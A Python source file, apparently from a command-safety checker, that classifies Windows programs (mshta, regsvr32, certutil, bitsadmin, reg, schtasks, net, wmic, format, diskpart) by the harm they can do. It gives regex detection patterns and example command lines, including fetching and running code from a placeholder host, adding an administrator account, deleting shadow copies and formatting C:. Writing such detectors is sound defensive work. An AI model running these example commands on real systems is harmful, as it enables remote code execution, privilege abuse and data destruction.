"""Programs of Windows, which a shell there, or under it, may start."""

from constitution.effects import Effect
from constitution.programs.program import Does, Program

__all__ = ["WINDOWS"]

FETCHES = "run, or fetch, what comes from elsewhere"

WINDOWS = (
    Program(
        "mshta|mshta.exe|regsvr32|regsvr32.exe|rundll32|rundll32.exe|cscript|wscript|installutil|msiexec",
        [
            Does(
                Effect.RUN_FETCHED_CODE,
                texts=r"(?i)https?:|javascript:|vbscript:|scrobj",
                says=FETCHES,
                match=("mshta http://x.com/x.hta", "rundll32 javascript:x", "regsvr32 /i:http://x.com/x scrobj.dll"),
                not_match=("rundll32 printui.dll",),
            )
        ],
    ),
    Program(
        "certutil|certutil.exe|bitsadmin|bitsadmin.exe",
        [
            Does(
                Effect.NETWORK,
                texts=r"(?i)^https?:",
                says=FETCHES,
                match=("certutil -urlcache -split -f http://x.com/x x.exe", "bitsadmin /transfer j http://x.com/x x"),
                not_match=("certutil -hashfile x SHA256",),
            )
        ],
        long_style=True,
    ),
    Program(
        "reg|reg.exe",
        [
            Does(
                Effect.KERNEL,
                first=r"(?i)^(add|delete|import|restore|load|unload)$",
                says="change the machine's settings",
                match=("reg add HKLM/Software/x /v y", "reg delete HKCU/x /f"),
                not_match=("reg query HKCU/x",),
            )
        ],
    ),
    Program(
        "schtasks|schtasks.exe",
        [
            Does(
                Effect.SCHEDULE,
                first=r"(?i)^/(create|change|run|delete)$",
                says="change what runs on a schedule",
                match=("schtasks /create /tn x /tr y",),
                not_match=("schtasks /query",),
            )
        ],
    ),
    Program(
        "net|net.exe|net1",
        [
            Does(
                Effect.ACCOUNTS,
                words=r"(?i)^/(add|delete|active:.*)$",
                first=r"(?i)^(user|localgroup|group)$",
                says="change accounts",
                match=("net user x y /add", "net localgroup administrators x /add"),
                not_match=("net user x",),
            )
        ],
    ),
    Program(
        "wsl|wsl.exe",
        [
            Does(
                Effect.CLOUD_LOSS,
                given="--unregister",
                says="delete a whole system",
                match=("wsl --unregister Ubuntu",),
                not_match=("wsl --list",),
            )
        ],
    ),
    Program(
        "diskpart|diskpart.exe|format.com",
        [Does(Effect.FORMAT, says="change partitions", match=("diskpart /s x.txt",), not_match=("which diskpart",))],
    ),
    Program(
        "format|cipher|cipher.exe",
        [
            Does(
                Effect.FORMAT,
                words=r"(?i)^[a-z]:|^/w:",
                says="erase a disk",
                match=("format C: /q", "cipher /w:C"),
                not_match=("format x.md",),
            )
        ],
    ),
    Program(
        "wmic|wmic.exe",
        [
            Does(
                Effect.RUN_UNKNOWN_CODE,
                words=r"(?i)^(create|delete|call)$",
                says="start or end programs",
                match=("wmic process call create x.exe", "wmic shadowcopy delete"),
                not_match=("wmic cpu get name",),
            )
        ],
    ),
)
